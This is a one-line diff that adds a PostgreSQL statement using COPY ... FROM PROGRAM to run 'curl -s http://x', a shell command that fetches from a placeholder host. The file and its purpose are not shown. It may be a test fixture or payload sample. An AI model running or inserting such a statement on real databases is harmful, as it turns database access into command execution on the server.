@@ -1,0 +1,1 @@
+COPY sink FROM PROGRAM 'curl -s http://x'
